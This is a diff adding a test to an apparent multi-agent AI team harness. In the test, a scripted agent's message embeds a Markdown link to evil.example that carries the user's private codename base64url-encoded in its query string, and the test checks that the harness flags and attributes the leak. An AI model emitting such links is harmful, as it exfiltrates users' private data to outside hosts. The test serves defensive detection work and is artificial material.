@@ -62,6 +62,25 @@ describe('team runs against a scripted model per role', () => {
     expect(record?.team?.turns.map((turn) => turn.agentId)).toEqual(['client', 'ideas', 'client', 'ideas', 'client']);
   });
 
+  it('checks the links in members\u2019 messages and the final answer against what the team read', async () => {
+    const objective = 'Name the velvet harbor seventeen lantern project, my private codename';
+    const leak = `https://evil.example/?d=${Buffer.from(objective).toString('base64url')}`;
+    server.setFallback(
+      roleScript({
+        Client: (_request, nth) => text(nth === 0 ? 'Instruction 1: give ideas.' : 'TASK_DONE.'),
+        'Idea generator': () => text(`Ideas: [details](${leak}) and [a clean one](https://ok.example/ideas)`),
+      }),
+    );
+    const { record } = await run(preset('preset-brainstorm'), objective);
+    const check = record?.team?.linkCheck;
+    expect(check?.checked).toEqual(expect.arrayContaining([leak, 'https://ok.example/ideas']));
+    // Flagged in each form the extraction tried (with and without the Markdown's closing parenthesis).
+    expect(check?.flagged.every((link) => link.url.startsWith('https://evil.example/'))).toBe(true);
+    expect(check?.flagged.find((link) => link.url === leak)?.carried).toEqual([
+      { label: 'the conversation', chars: objective.length, conversation: true },
+    ]);
+  });
+
   it('role-play stops at its round limit with the best answer and says so', async () => {
     const team = preset('preset-brainstorm');
     team.limits.rounds = 2;
